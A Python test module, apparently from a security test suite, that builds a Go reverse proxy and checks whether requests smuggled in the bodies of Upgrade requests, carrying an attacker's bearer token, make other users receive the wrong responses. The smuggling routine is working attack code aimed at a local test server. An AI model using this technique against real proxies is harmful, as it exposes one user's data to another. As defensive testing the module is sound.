"""Requests hidden in bodies, through the reverse proxy of Go's standard library, which passes every `Upgrade` on."""

import asyncio
import contextlib
import os
import shutil
import tempfile
from pathlib import Path
from typing import Final

import httpx2

from prove.attacks.attack import Attack, Cannot, Outcome
from prove.attacks.ground import Ground, Person
from prove.attacks.raw import PATIENCE, Raw, request

_PROXY = """\
package main

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
)

func main() {
	to, err := url.Parse(os.Args[1])
	if err != nil {
		panic(err)
	}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	fmt.Println(listener.Addr().(*net.TCPAddr).Port)
	panic(http.Serve(listener, httputil.NewSingleHostReverseProxy(to)))
}
"""
_PLACES: Final = "/usr/local/go/bin:/usr/lib/go/bin"
_ROUNDS = 20
_UPGRADES = ("x", "h2c", "websocket, x", "WebSocket", "websocket")
_BUILD_SECONDS = 600.0


class _Built:
    """The program, built once; the folder goes with the process."""

    folder: "tempfile.TemporaryDirectory[str] | None" = None


async def build() -> None:
    """Build the proxy, offline, of the standard library alone. Raises `Cannot` where there is no Go."""
    if _Built.folder is not None:
        return
    go = shutil.which("go", path=os.pathsep.join((os.environ.get("PATH", ""), _PLACES)))
    if go is None:
        raise Cannot("there is no go on this machine (Debian: apt-get install golang-go)")
    folder = tempfile.TemporaryDirectory(prefix="chinwag-go-")
    source = Path(folder.name) / "proxy.go"
    source.write_text(_PROXY)
    offline = {
        "GOPROXY": "off",
        "GO111MODULE": "off",
        "GOCACHE": f"{folder.name}/cache",
        "GOFLAGS": "",
        "CGO_ENABLED": "0",
    }
    process = await asyncio.create_subprocess_exec(
        *(go, "build", "-o", f"{folder.name}/proxy", str(source)),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
        env=os.environ | offline,
    )
    try:
        async with asyncio.timeout(_BUILD_SECONDS):
            said, _ = await process.communicate()
    finally:
        if process.returncode is None:
            process.kill()
    if process.returncode:
        folder.cleanup()
        raise Cannot(f"the proxy could not be built: {said.decode(errors='replace')[-200:]}")
    _Built.folder = folder


async def hide(url: str, upgrade: str, body: bytes) -> None:
    """A request for another protocol whose body comes later than its head, as a whole; what is answered is dropped."""
    raw = await Raw.open(url)
    whole = request("POST", "/v1/socket", "Connection: upgrade", f"Upgrade: {upgrade}", body=body)
    raw.write(whole[: -len(body)])
    await raw.writer.drain()
    await asyncio.sleep(0.01)  # so that the proxy passes the head on by itself; right or wrong do not depend on it
    raw.write(body)
    with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
        await raw.head()
    raw.cut()


async def attack(ground: Ground) -> Outcome:
    """Others ask through the same proxy meanwhile: everybody must get the answer to their own request."""
    assert _Built.folder is not None
    process = await asyncio.create_subprocess_exec(
        f"{_Built.folder.name}/proxy", ground.url, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL
    )
    try:
        assert process.stdout is not None
        async with asyncio.timeout(PATIENCE):
            port = int(await process.stdout.readline())
        url = f"http://127.0.0.1:{port}"
        mallory = await ground.person("mallory")
        people = [await ground.person(name) for name in ("ann", "bob", "cid")]
        hidden = request("GET", "/v1/me", f"Authorization: Bearer {mallory.token}")
        asked, wrong = 0, 0

        async def ask(http: httpx2.AsyncClient, person: Person) -> bool:
            answer = await http.get("/v1/me", headers={"authorization": f"Bearer {person.token}"})
            # 502: the proxy had a connection that the server has closed.
            return answer.status_code == 502 or answer.json().get("id") == person.account

        async with httpx2.AsyncClient(base_url=url, timeout=30) as http:
            for _ in range(ground.times(_ROUNDS)):
                for upgrade in _UPGRADES:
                    await hide(url, upgrade, hidden)
                    own = await asyncio.gather(*(ask(http, one) for one in people))
                    asked += len(own)
                    wrong += own.count(False)
    finally:
        process.kill()
        await process.wait()
    return Outcome(f"{wrong} of {asked} people got another's answer", right=not wrong)


ATTACK = Attack(
    "go-proxy",
    "requests hidden in bodies, through Go's httputil.ReverseProxy, which passes every Upgrade on",
    "everybody gets the answer to their own request",
    attack,
    asked_only=True,
    needs="Go (apt-get install golang-go), and two minutes to build a proxy of its standard library before the attack",
    prepare=build,
)
